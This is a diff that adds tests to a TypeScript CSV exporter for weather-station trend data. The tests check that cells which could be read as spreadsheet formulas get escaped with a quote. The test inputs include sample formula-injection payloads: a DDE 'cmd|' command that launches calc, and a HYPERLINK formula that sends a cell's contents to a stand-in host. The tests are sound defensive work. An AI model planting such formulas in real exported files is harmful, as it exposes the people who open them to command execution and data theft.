@@ -1,4 +1,6 @@
 import { text } from 'node:stream/consumers';
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
 import { resolveUnits } from '@mesonet/contract/units.js';
 import type { TrendBlock } from '../trend-blocks.js';
 import { trendCsv } from './trend-csv.js';
@@ -65,5 +67,45 @@ describe('trendCsv', () => {
   ])('writes the text %j so that it is read as that text: %j', async (value, written) => {
     const lines = await fileOf('precipitationType.last', [[value]]);
     expect(lines.slice(1).join('\r\n')).toBe(`2025-06-01T08:00:00-04:00,${written}\r\n`);
+  });
+});
+
+/** What a program reads in a file of one row. */
+async function cellsOf(keys: string, row: (number | string | null)[]): Promise<string[]> {
+  const [, cells, ...more]: string[][] = parse((await fileOf(keys, [row])).join('\r\n'));
+  expect(more).toEqual([]);
+  return cells!.slice(1);
+}
+
+describe('a cell that somebody else wrote', () => {
+  const COMMANDS = ['1+1', 'HYPERLINK("http://x/?"&A1,"open")', "cmd|' /C calc'!A0", 'SUM(A1:A9)*1', '"'];
+  const LEADS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
+  const payloads = LEADS.flatMap((lead) => COMMANDS.map((command) => lead + command));
+
+  it.each(payloads)('%j is no formula, and is read as that text behind a quote', async (payload) => {
+    const [text, temperature] = await cellsOf('precipitationType.last,temperature', [payload, -12.3]);
+    expect([text, temperature]).toEqual([`'${payload}`, '-12.3']);
+  });
+
+  it('is read as it is where it is none, and never as two', async () => {
+    const text = fc.oneof(
+      fc.string({ unit: 'binary' }),
+      fc.string({ unit: fc.constantFrom('=', '-', ',', ';', '"', "'", '\r', '\n', '\t', 'a', ' ') }),
+    );
+    const property = fc.asyncProperty(text, async (written) => {
+      const isFormula = LEADS.some((lead) => written.startsWith(lead));
+      const cells = await cellsOf('temperature,precipitationType.last,dewPoint', [1, written, 2]);
+      expect(cells).toEqual(['1.0', isFormula ? `'${written}` : written, '2.0']);
+    });
+    await fc.assert(property);
+  });
+
+  it('is no number: those stay bare, whatever their sign', async () => {
+    const property = fc.asyncProperty(fc.double({ min: -1e9, max: 1e9, noNaN: true }), async (value) => {
+      const [cell] = await cellsOf('temperature', [value]);
+      expect(cell).toMatch(/^-?\d+\.\d$/);
+      expect(Math.abs(Number(cell) - value)).toBeLessThanOrEqual(0.05 + 1e-6);
+    });
+    await fc.assert(property);
   });
 });
